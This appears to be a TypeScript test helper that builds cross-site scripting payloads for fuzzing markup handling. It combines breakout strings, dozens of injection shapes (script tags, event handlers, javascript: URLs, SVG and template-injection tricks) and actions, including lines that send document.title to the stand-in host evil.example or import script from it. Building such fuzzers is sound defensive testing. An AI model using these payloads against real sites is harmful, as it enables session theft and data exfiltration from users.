import type { Chance } from '#server/demo/random.ts'
import { naughty } from './naughty.ts'

/**
 * Markup that runs where it is read as markup: a seeded grammar of where text may land (an element, an attribute, a script, a
 * comment, a style, an address), how one gets out of it, and what then runs. `evil.example` is nobody's.
 */
const outs = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`',
  ' ',
  '-->',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '"/>',
  '</noscript>',
  ']]>',
  '\\"',
  '&quot;>',
  '\u0000>',
]
const runs = [
  'hit()',
  'alert(1)',
  'window.hit&&hit()',
  'top.hit()',
  'location="//evil.example"',
  'fetch("//evil.example/"+document.title)',
  'import("//evil.example/x.js")',
  'new Image().src="//evil.example"',
  'open("//evil.example")',
  'eval("hit()")',
  'setTimeout("hit()")',
  'document.body.innerHTML="<img src=x onerror=hit()>"',
]
const shapes: ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT >`,
  (run) => `<img src=x onerror=${JSON.stringify(run)}>`,
  (run) => `<img/src=x/onerror='${run}'>`,
  (run) => `<svg onload='${run}'>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin='${run}' attributeName=x dur=1s>`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror='${run}'>`,
  (run) => `<iframe srcdoc="<script>parent.${run.replaceAll('"', "'")}</script>"></iframe>`,
  (run) => `<iframe src="javascript:${run.replaceAll('"', "'")}"></iframe>`,
  (run) =>
    `<a href="javascript:${run.replaceAll('"', "'")}" id=x autofocus tabindex=1 onfocus='${run}'>x</a>`,
  (run) => `<details open ontoggle='${run}'>x</details>`,
  (run) => `<input autofocus onfocus='${run}'>`,
  (run) => `<body onpageshow='${run}'>`,
  (run) => `<video><source onerror='${run}'></video>`,
  (run) => `<object data="javascript:${run.replaceAll('"', "'")}"></object>`,
  (run) => `<embed src="data:text/html,<script>${run.replaceAll('"', "'")}</script>">`,
  (run) => `<meta http-equiv=refresh content="0;url=//evil.example/${run.length}">`,
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => '<base href=//evil.example/>',
  () => '<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>',
  () => '<form action=//evil.example><button autofocus>x</button></form>',
  (run) => ` onmouseover='${run}' autofocus onfocus='${run}' x=`,
  (run) => ` style='animation:x' onanimationstart='${run}' x=`,
  (run) => `javascript:${run}`,
  (run) => `<!--><img src=x onerror='${run}'>-->`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `\${${run}}`,
  (run) => `{{constructor.constructor('${run.replaceAll("'", '')}')()}}`,
  (run) => `<noscript><p title="</noscript><img src=x onerror='${run}'>">`,
]

/** So many payloads: the well-kept list of naughty strings first, then the grammar. */
export function markupPayloads(chance: Chance, count: number): string[] {
  const made = new Set<string>()
  const lists = count > naughty.length * 2 ? naughty : naughty.filter((text) => /[<>"'`&]/.test(text))
  for (const text of lists.slice(0, Math.ceil(count / 2))) made.add(text.replaceAll('\u0000', ''))
  while (made.size < count)
    made.add(`${chance.pick(outs)}${chance.pick(shapes)(chance.pick(runs))}`.replaceAll('\u0000', ''))
  return [...made]
}
